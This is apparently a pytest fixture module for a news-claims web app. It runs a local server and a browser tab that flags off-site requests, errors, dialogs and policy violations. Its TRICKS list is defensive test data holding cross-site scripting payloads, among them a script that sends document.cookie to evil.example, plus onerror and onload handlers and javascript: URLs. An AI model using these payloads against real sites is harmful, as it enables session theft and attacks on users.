"""A running server of the web page for tests, on a record made by hand, and a browser that watches what a page does.

To have a page looked at by all tests of `test_web_browser`, add its address to `PAGES`; what it has to show belongs
into `ordinary` and `hostile`.
"""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from litestar import Litestar

from onrecord.model import Reading
from onrecord.record.adding import add
from onrecord.record.addresses import claim_addresses
from onrecord.record.database import open_record
from onrecord.record.rating import known_figures
from onrecord.web.app import create_app
from onrecord.web.serving import Serving
from tests.pages import Told, page, pledge, share

PAGES = [
    *("/", "/record", "/commitments", "/figures", "/review", "/review/log", "/about"),
    *("/claims/{claim}", "/threads/T1", "/threads/T3", "/figures/nato_defence_exp_pct_gdp", "/no-such-page"),
]
"""Addresses that every page test visits, on both records; `{claim}` stands for that of the first claim."""

TRICKS = [
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "<img src=//evil.example/x onerror=alert(1)>",
    '"><svg/onload=alert(2)>',
    "</textarea></title><style>*{display:none}</style>",
    "{{ 7 * 7 }} {% raw %}",
    "\u202egnidneps ecnefed\u202c and on",
    "def\u200bence\u200b spen\u2060ding",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 stack",
    "Donaudampfschifffahrtsgesellschaftskapitän" * 8,
    "وزارة الدفاع ستنفق أكثر",
    "javascript:alert(3)",
]


def ordinary() -> list[Reading]:
    """Return the readings of a record as a newsroom has it."""
    britain = {"actor": "Britain", "country": "GB", "said_by": "defence minister"}
    return [
        page(
            "https://news.example/norland-roads",
            "2025-03-04",
            pledge("Norland will spend 3% of GDP on defence by 2030, the minister said.", 3, 2030, said_by="Ana Roth"),
            Told(
                words="About 140 people were hurt in the storm.", kind="figure", actor=None, measure="hurt in the storm"
            ),
            headline="Norland sets out its plans",
        ),
        page(
            "https://paper.example/norland-later",
            "2025-06-01",
            pledge("Norland will spend 3.5% of GDP on defence by 2032.", 3.5, 2032, said_by="Ana Roth"),
            headline="Norland moves its goal",
        ),
        page(
            "https://paper.example/forecast",
            "2024-02-11",
            Told(
                words="Prices will rise by 4% next year, the bank expects.",
                kind="forecast",
                actor="Bank of Westria",
                measure="consumer prices",
                quantity=share(4, "prices"),
            ),
            headline="Bank of Westria sees prices up",
        ),
        page(
            "https://news.example/britain-defence",
            "2025-02-26",
            pledge("Britain will spend 2.5% of GDP on defence by 2027, the minister said.", 2.5, 2027, **britain),
            headline="Britain names a year for its goal",
        ),
        page(
            "https://news.example/britain",
            "2025-02-25",
            pledge("Britain will spend 3% of GDP on defence by 2029.", 3, 2029, actor="Britain", country="GB"),
            headline="Britain plans ahead",
        ),
    ]


def hostile() -> list[Reading]:
    """Return the readings of captures that try to act, to lead astray or to break the page."""
    found = []
    for number, trick in enumerate(TRICKS):
        told = pledge(f"{trick} will spend 2% of it by 2031.", 2, 2031, actor=trick, measure=trick, said_by=trick)
        source = "javascript:alert(4)" if number % 2 else f"https://evil.example/{number}?<script>=\"'"
        found.append(page(source, "2025-01-02", told, headline=trick, filler=trick))
    return found


class Site:
    """A server that runs, where its record is, and the address of the first claim in that."""

    def __init__(self, address: str, place: Path, claim: str) -> None:
        self.address, self.place, self.claim = address, place, claim


@contextlib.contextmanager
def running(place: Path, readings: list[Reading], serving: Serving | None = None) -> Iterator[Site]:
    """Run a server on a record of these readings, in a thread, on a free port."""
    with open_record(str(place), may_be_new=True) as record:
        for reading in readings:
            add(record, reading, reader="1.0", by=known_figures())
    claim = next((address for one in readings for address in _addresses(one)), "none")
    app = create_app(str(place), serving or Serving(readers=1))
    with _listening() as listener, _served(app, listener):
        yield Site(f"http://127.0.0.1:{listener.getsockname()[1]}", place, claim)


def _addresses(reading: Reading) -> tuple[str, ...]:
    return claim_addresses(reading.capture.id, reading.capture.text, reading.claims)


def _listening() -> socket.socket:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    return listener


@contextlib.contextmanager
def _served(app: Litestar, listener: socket.socket) -> Iterator[None]:
    server = uvicorn.Server(uvicorn.Config(app, log_level="warning", timeout_graceful_shutdown=1))
    thread = threading.Thread(target=lambda: asyncio.run(server.serve(sockets=[listener])), daemon=True)
    thread.start()
    while not server.started:
        assert thread.is_alive()
        time.sleep(0.02)
    try:
        yield
    finally:
        server.should_exit = True
        thread.join(20)
        assert not thread.is_alive()


def chromium() -> str:
    """Return the browser's path; skip the test where there is none, fail where CI is set."""
    found = shutil.which("chromium") or shutil.which("chromium-browser")
    if found is None:
        reason = "no browser is installed (Debian: apt-get install chromium)"
        pytest.fail(reason) if os.environ.get("CI") else pytest.skip(reason)
    return str(found)


_WATCH = """
window.__violations = []; window.__shift = 0;
addEventListener("securitypolicyviolation", (e) => __violations.push(e.violatedDirective + " " + e.blockedURI));
new PerformanceObserver((list) => {
  for (const one of list.getEntries()) if (!one.hadRecentInput) window.__shift += one.value;
}).observe({type: "layout-shift", buffered: true});
"""


class Tab:
    """A tab of a browser in a context of its own, and what happened in it that must not."""

    def __init__(
        self, browser: Any, site: Site, *, theme: str = "light", width: int = 1280, height: int = 860, **more: Any
    ) -> None:
        self.site = site
        self.context = browser.new_context(
            color_scheme=theme, viewport={"width": width, "height": height}, reduced_motion="reduce", **more
        )
        self.context.add_init_script(_WATCH)
        self.faults: list[str] = []
        self.page = self.context.new_page()
        self.page.set_default_timeout(15_000)
        self.page.route("**/*", self._only_here)
        self.page.on("console", self._hear)
        self.page.on("pageerror", lambda error: self.faults.append(f"error: {error}"))
        self.page.on("dialog", lambda dialog: (self.faults.append(f"dialog: {dialog.message}"), dialog.dismiss()))

    def visit(self, path: str) -> Any:
        """Go to a path of the site; return the page."""
        self.page.goto(self.site.address + path.replace("{claim}", self.site.claim))
        return self.page

    def found(self) -> list[str]:
        """Return what happened that must not: requests elsewhere, errors, broken policy, a layout that moved."""
        violations, shift = self.page.evaluate("[window.__violations ?? [], window.__shift ?? 0]")
        return [*self.faults, *violations, *([f"layout shift {shift}"] if shift > 0.01 else [])]

    def overflow(self) -> int:
        """Return by how many pixels the page is wider than the window."""
        return int(self.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth"))

    def close(self) -> None:
        """Close the context."""
        self.context.close()

    def _only_here(self, route: Any) -> None:
        if route.request.url.startswith((f"{self.site.address}/", "data:")):
            route.continue_()
        else:
            self.faults.append(f"request to {route.request.url}")
            route.abort()

    def _hear(self, message: Any) -> None:
        # a page that says why it cannot is logged too: the status is what the test asks for
        if message.type in ("error", "warning") and "the server responded with a status" not in message.text:
            self.faults.append(f"{message.type}: {message.text}")
